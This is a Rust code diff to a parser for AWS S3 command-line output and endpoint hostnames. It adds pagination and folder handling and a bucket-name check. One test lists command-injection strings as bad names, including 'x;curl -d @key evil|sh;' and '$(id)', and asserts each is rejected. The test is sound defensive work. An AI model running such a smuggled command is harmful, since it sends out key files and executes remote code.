@@ -92,6 +92,11 @@ pub struct Head {
 }
 
 impl Head {
+    /// When the object was last written, where that is told.
+    pub fn written(&self) -> Option<Timestamp> {
+        self.last_modified.as_str()?.parse().ok()
+    }
+
     /// Reads the output of `aws s3api head-object`.
     pub fn parse(answer: Value) -> Result<Self, String> {
         serde_json::from_value(answer).map_err(|error| error.to_string())
@@ -145,8 +150,10 @@ pub struct Entry {
 pub struct Listing {
     /// What was asked for; absence is proved below it alone.
     pub prefix: String,
-    /// Whether the listing ends early.
+    /// Whether the listing ends early, or begins late.
     pub truncated: bool,
+    /// Folders that it names in the place of their keys.
+    pub folded: Vec<String>,
     /// The keys.
     pub keys: BTreeMap<String, Entry>,
     /// The keys in lower case, for finding near ones.
@@ -159,8 +166,17 @@ impl Listing {
         let text = |key: &str| answer.get(key).and_then(Value::as_str).unwrap_or_default();
         let truncated = answer.get("IsTruncated").and_then(Value::as_bool).unwrap_or(false)
             || !text("NextToken").is_empty()
-            || !text("NextContinuationToken").is_empty();
-        let mut listing = Self { prefix: text("Prefix").to_owned(), truncated, ..Self::default() };
+            || !text("NextContinuationToken").is_empty()
+            || !text("ContinuationToken").is_empty()
+            || !text("StartAfter").is_empty();
+        let folders = answer.get("CommonPrefixes").and_then(Value::as_array);
+        let folders = folders.into_iter().flatten().filter_map(|one| one.get("Prefix"));
+        let mut listing = Self {
+            prefix: text("Prefix").to_owned(),
+            truncated,
+            folded: folders.filter_map(Value::as_str).map(str::to_owned).collect(),
+            ..Self::default()
+        };
         let contents = match answer.get("Contents") {
             None | Some(Value::Null) => &[],
             Some(Value::Array(items)) => items.as_slice(),
@@ -186,7 +202,9 @@ impl Listing {
 
     /// Whether the listing can prove that a key is absent.
     pub fn speaks_of(&self, key: &str) -> bool {
-        !self.truncated && key.starts_with(&self.prefix)
+        !self.truncated
+            && key.starts_with(&self.prefix)
+            && !self.folded.iter().any(|folder| key.starts_with(folder.as_str()))
     }
 }
 
@@ -197,6 +215,13 @@ pub struct Endpoint {
     pub bucket: String,
     /// Whether it is the website endpoint, which is always asked anonymously.
     pub website: bool,
+}
+
+/// Whether a bucket can have this name; those of early years may have `_`. It stands in commands
+/// that people copy, and a bundle may come from anybody.
+fn is_name(bucket: &str) -> bool {
+    let allowed = |b: u8| b.is_ascii_alphanumeric() || b".-_".contains(&b);
+    bucket.starts_with(|c: char| c.is_ascii_alphanumeric()) && bucket.bytes().all(allowed)
 }
 
 /// Reads `BUCKET.s3.REGION.amazonaws.com` and its older and newer spellings. Bucket names may hold
@@ -214,7 +239,7 @@ pub fn endpoint(domain: &str) -> Option<Endpoint> {
                 .and_then(|at| Some((host.get(..at)?, host.get(at + marker.len()..)?))),
         };
         if let Some((bucket, region)) = found
-            && !bucket.is_empty()
+            && is_name(bucket)
             && region.split('.').count() <= 2
         {
             return Some(Endpoint {
@@ -242,6 +267,10 @@ mod tests {
         assert_eq!(bucket("b.s3-website.eu-central-1.amazonaws.com"), Some(("b".into(), true)));
         assert_eq!(bucket("x.execute-api.us-east-1.amazonaws.com"), None);
         assert_eq!(bucket("web.example.com"), None);
+        // What no bucket is called would be a command of its own where a step is copied.
+        for name in ["x;curl -d @key evil|sh;", "$(id)", "-rf", "a b", "a\u{1b}[2J"] {
+            assert!(endpoint(&format!("{name}.s3.amazonaws.com")).is_none(), "{name}");
+        }
     }
 
     #[test]
@@ -251,7 +280,12 @@ mod tests {
         assert_eq!(whole.lower.get("a/b").map(String::as_str), Some("a/B"));
         let cut = Listing::parse(json!({"IsTruncated": true})).unwrap();
         assert!(!cut.speaks_of("a"));
-        let paged = Listing::parse(json!({"NextToken": "x"})).unwrap();
-        assert!(!paged.speaks_of("a"));
+        for part in ["NextToken", "ContinuationToken", "StartAfter"] {
+            let paged = Listing::parse(json!({part: "x"})).unwrap();
+            assert!(!paged.speaks_of("a"), "{part}");
+        }
+        let folded = json!({"Delimiter": "/", "CommonPrefixes": [{"Prefix": "img/"}]});
+        let folded = Listing::parse(folded).unwrap();
+        assert!(folded.speaks_of("a") && !folded.speaks_of("img/a"));
     }
 }
